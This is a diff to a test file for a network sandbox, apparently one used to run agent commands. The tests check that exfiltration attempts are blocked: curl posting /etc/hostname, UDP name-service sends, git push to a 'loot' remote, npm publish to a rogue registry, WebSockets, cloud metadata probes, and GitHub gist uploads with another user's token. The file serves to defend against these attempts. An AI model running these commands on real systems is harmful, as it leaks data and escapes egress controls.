@@ -1,4 +1,6 @@
 /** A sandbox with network, from inside: what is allowed is reached through the proxy, and there is no other way out. */
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
 import { createServer } from 'node:net';
 import { describe, expect, onTestFinished, test } from 'vitest';
 import { createCommands } from '../../../../src/adapters/bubblewrap/sandboxed-commands.ts';
@@ -16,14 +18,49 @@ const NO_CLIENTS: PackageClients = { npm: {}, pip: [], go: {}, maven: [] };
 
 function run(
   script: string,
-  { hosts = '', clients = NO_CLIENTS }: { hosts?: string; clients?: PackageClients } = {},
+  {
+    hosts = '',
+    clients = NO_CLIENTS,
+    sandbox = 'on',
+    env = {},
+  }: {
+    hosts?: string;
+    clients?: PackageClients;
+    sandbox?: 'on' | 'off';
+    env?: Record<string, string>;
+  } = {},
 ): Promise<CommandResult> {
   const egress = { allowed: parseSandboxHosts(hosts), clients: async () => clients, proxies: {} };
-  const wanted = { folder: temporaryFolder(), readable: [], env: {}, timeoutMs: 120_000 };
-  return createCommands({ sandbox: 'on', clock: systemClock, egress }).run(
+  const wanted = { folder: temporaryFolder(), readable: [], env, timeoutMs: 120_000 };
+  return createCommands({ sandbox, clock: systemClock, egress }).run(
     { ...wanted, script, network: true },
     new AbortController().signal,
   );
+}
+
+/** Each connects to a port of this machine. */
+const WAYS_OUT = {
+  curl: 'curl -s -m 5 -d @/etc/hostname "http://127.0.0.1:$PORT"',
+  'a name service': `node -e '
+    const socket = require("node:dgram").createSocket("udp4");
+    socket.on("error", () => socket.close());
+    socket.send("name", Number(process.env.NAMES), "127.0.0.1", () => socket.close())'`,
+  'a git remote':
+    'git init -q .; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x; git push "http://127.0.0.1:$PORT/loot" HEAD',
+  'a git remote of another protocol': 'git ls-remote "git://127.0.0.1:$PORT/loot"',
+  npm: `echo '{"name":"loot","version":"1.0.0"}' > package.json
+    npm publish --fetch-retries 0 --registry "http://127.0.0.1:$PORT" "--//127.0.0.1:$PORT/:_authToken=x"`,
+  'a WebSocket': `node -e 'new WebSocket("ws://127.0.0.1:" + process.env.PORT).onerror = () => {}'`,
+};
+
+/** A port for datagrams, which are all counted. */
+async function listenForNames(): Promise<{ port: number; reached: () => number }> {
+  let count = 0;
+  const socket = createSocket('udp4', () => (count += 1));
+  socket.bind(0, '127.0.0.1');
+  await once(socket, 'listening');
+  onTestFinished(() => void socket.close());
+  return { port: socket.address().port, reached: () => count };
 }
 
 /** A program that uses no proxy. */
@@ -58,38 +95,50 @@ describe.skipIf(noBwrap !== undefined)(
       expect(other.seen).toEqual([]);
     });
 
-    verifies('EXE-02', 'services of the machine are out of reach', async () => {
-      const { port, reached } = await listen();
-      const script = `${connecting(`${port}, "127.0.0.1"`)}; ${connecting(`${port}, "::1"`)}
+    verifies(
+      'EXE-02: services of this machine',
+      'services of the machine are out of reach',
+      async () => {
+        const { port, reached } = await listen();
+        const script = `${connecting(`${port}, "127.0.0.1"`)}; ${connecting(`${port}, "::1"`)}
       curl -sS --noproxy "" -p http://127.0.0.1:${port}`;
-      const { output } = await run(script);
-      expect(output).toMatch(/^failed E\w+\nfailed E\w+\ncurl: .*403/);
-      expect(reached()).toBe(0);
-    });
-
-    verifies('EXE-02', 'link-local metadata is refused, even by a list that names it', async () => {
-      const script = `${connecting('80, "169.254.169.254"')}; curl -sS http://169.254.169.254/`;
-      const { output } = await run(script, { hosts: '169.254.169.254:80' });
-      expect(output).toMatch(/failed E(?:NETUNREACH|HOSTUNREACH)\nThe sandbox refuses/);
-      expect(output).toContain('No setting allows them.');
-    });
-
-    verifies('EXE-02', 'an abstract socket of the machine is out of reach', async () => {
-      const name = `quorum-test-${process.pid}`;
-      let reached = 0;
-      const server = createServer((socket) => {
-        reached += 1;
-        socket.end('reached');
-      });
-      server.listen({ path: `\0${name}` });
-      onTestFinished(() => void server.close());
-      const { output } = await run(connecting(`{ path: "\\0${name}" }`));
-      expect(output).toMatch(/failed ECONNREFUSED/);
-      expect(reached).toBe(0);
-    });
+        const { output } = await run(script);
+        expect(output).toMatch(/^failed E\w+\nfailed E\w+\ncurl: .*403/);
+        expect(reached()).toBe(0);
+      },
+    );
 
     verifies(
-      'EXE-02',
+      'EXE-02: raw address',
+      'link-local metadata is refused, even by a list that names it',
+      async () => {
+        const script = `${connecting('80, "169.254.169.254"')}; curl -sS http://169.254.169.254/`;
+        const { output } = await run(script, { hosts: '169.254.169.254:80' });
+        expect(output).toMatch(/failed E(?:NETUNREACH|HOSTUNREACH)\nThe sandbox refuses/);
+        expect(output).toContain('No setting allows them.');
+      },
+    );
+
+    verifies(
+      'EXE-02: services of this machine',
+      'an abstract socket of the machine is out of reach',
+      async () => {
+        const name = `quorum-test-${process.pid}`;
+        let reached = 0;
+        const server = createServer((socket) => {
+          reached += 1;
+          socket.end('reached');
+        });
+        server.listen({ path: `\0${name}` });
+        onTestFinished(() => void server.close());
+        const { output } = await run(connecting(`{ path: "\\0${name}" }`));
+        expect(output).toMatch(/failed ECONNREFUSED/);
+        expect(reached).toBe(0);
+      },
+    );
+
+    verifies(
+      ['EXE-02: names', 'EXE-02: raw address'],
       'a program that ignores the proxy finds no network and no names',
       async () => {
         const script = `env -i PATH="$PATH" ${connecting('443, "203.0.113.1"')}
@@ -101,13 +150,55 @@ describe.skipIf(noBwrap !== undefined)(
       },
     );
 
-    verifies('EXE-02', 'what was refused is named together with the setting', async () => {
-      const { output } = await run(
-        'curl -sS https://evil.example; git ls-remote https://more.example/x',
-      );
-      expect(output).toContain('refused connections to `evil.example:443`, `more.example:443`');
-      expect(output).toContain('add evil.example:443,more.example:443 to QUORUM_SANDBOX_HOSTS');
-    });
+    verifies(
+      'EXE-02: report of what was refused',
+      'what was refused is named together with the setting',
+      async () => {
+        const { output } = await run(
+          'curl -sS https://evil.example; git ls-remote https://more.example/x',
+        );
+        expect(output).toContain('refused connections to `evil.example:443`, `more.example:443`');
+        expect(output).toContain('add evil.example:443,more.example:443 to QUORUM_SANDBOX_HOSTS');
+      },
+    );
+
+    verifies(
+      [
+        'EXE-02: curl',
+        'EXE-02: names',
+        'EXE-02: foreign git remote',
+        'EXE-02: npm publish',
+        'EXE-02: WebSocket',
+      ],
+      'each way out that reaches a host without the sandbox reaches nobody with it',
+      async () => {
+        for (const [way, script] of Object.entries(WAYS_OUT)) {
+          const { port, reached } = await listen();
+          const asked = await listenForNames();
+          const env = { PORT: String(port), NAMES: String(asked.port) };
+          await run(script, { hosts: 'registry.example', env });
+          expect([way, reached() + asked.reached()]).toEqual([way, 0]);
+          await run(script, { sandbox: 'off', env });
+          expect([way, reached() + asked.reached() > 0]).toEqual([way, true]);
+        }
+      },
+    );
+
+    verifies(
+      ['EXE-02: gist', 'EXE-02: GitHub with the token of another'],
+      'GitHub is refused whatever token comes along, before a byte of it is read',
+      async () => {
+        const token = '-H "Authorization: Bearer theirs"';
+        const { output } = await run(
+          `curl -sS ${token} https://api.github.com/user
+          curl -sS ${token} -d '{"files":{}}' https://api.github.com/gists
+          git -c http.extraHeader="Authorization: Bearer theirs" push https://github.com/eve/loot HEAD`,
+          { hosts: 'registry.example' },
+        );
+        expect(output.match(/curl: \(56\) .*403/g)).toHaveLength(2);
+        expect(output).toContain('refused connections to `api.github.com:443`');
+      },
+    );
 
     test('package clients are told the registries of the machine', async () => {
       const clients = {
